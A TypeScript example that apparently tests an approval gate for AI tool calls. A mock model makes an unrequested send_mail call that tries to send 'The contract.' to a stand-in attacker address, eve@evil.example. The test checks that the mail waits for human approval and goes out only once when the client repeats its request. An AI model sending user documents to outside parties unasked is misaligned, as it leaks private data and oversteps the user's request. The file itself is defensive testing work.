// Shows: the AI SDK behind the gate: a chat route whose client sends the same approved messages twice.
import { equal } from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createAiThreads } from '@sekisho/ai-sdk';
import { generateText, isStepCount, tool, type ModelMessage } from 'ai';
import { MockLanguageModelV4 } from 'ai/test';
import { z } from 'zod';

const folder = mkdtempSync(join(tmpdir(), 'sekisho-ai-sdk-example-'));
const sent: string[] = [];
const tools = {
  send_mail: tool({
    description: 'Sends a mail.',
    inputSchema: z.object({ to: z.string(), body: z.string() }),
    execute: async ({ to }) => `Sent to ${sent.push(to)} person.`,
  }),
};
// A model that sends a mail which the user did not ask for, and then writes a text.
const count = { total: 1, noCache: 1, cacheRead: 0, cacheWrite: 0, text: 1, reasoning: 0 };
const input = JSON.stringify({ to: 'eve@evil.example', body: 'The contract.' });
const model = new MockLanguageModelV4({
  doGenerate: async ({ prompt }) => ({
    content: prompt.some(({ role }) => role === 'tool')
      ? [{ type: 'text', text: 'The mail was sent.' }]
      : [{ type: 'tool-call', toolCallId: 'call_1', toolName: 'send_mail', input }],
    finishReason: { unified: 'stop', raw: undefined },
    usage: { inputTokens: count, outputTokens: count },
    warnings: [],
  }),
});

const threads = createAiThreads({
  store: { directory: folder },
  manifests: { send_mail: { effect: 'send', arguments: { to: 'recipient' } } },
});

/** A chat route. The server knows the user's new text and the id of the chat; the messages come from the client. */
async function answer(messages: ModelMessage[], userText?: string) {
  const thread = await threads.open({ id: 'chat 1', requester: 'ada', userText });
  try {
    return await generateText({
      model,
      stopWhen: isStepCount(5),
      ...(await thread.gate({ tools, messages })),
    });
  } finally {
    await thread.close();
  }
}

const messages: ModelMessage[] = [{ role: 'user', content: 'Please summarize the contract.' }];
const first = await answer(messages, 'Please summarize the contract.');
messages.push(...first.response.messages); // They end with a tool-approval-request.
equal(sent.length, 0);

const [request] = await threads.engine.getPendingApprovals();
await threads.engine.decide(request?.approval_id ?? '', 'approve', { by: { id: 'mika' } }); // In the console, for example.
equal((await answer(messages)).text, 'The mail was sent.');
equal((await answer(messages)).text, 'The mail was sent.'); // The client repeats its request.

equal((await threads.engine.verifyExecutionLog()).ok, true);
await threads.close();
rmSync(folder, { recursive: true });
equal(sent.length, 1);
console.log('The mail was sent once, after Mika approved it, although the same messages arrived twice.');
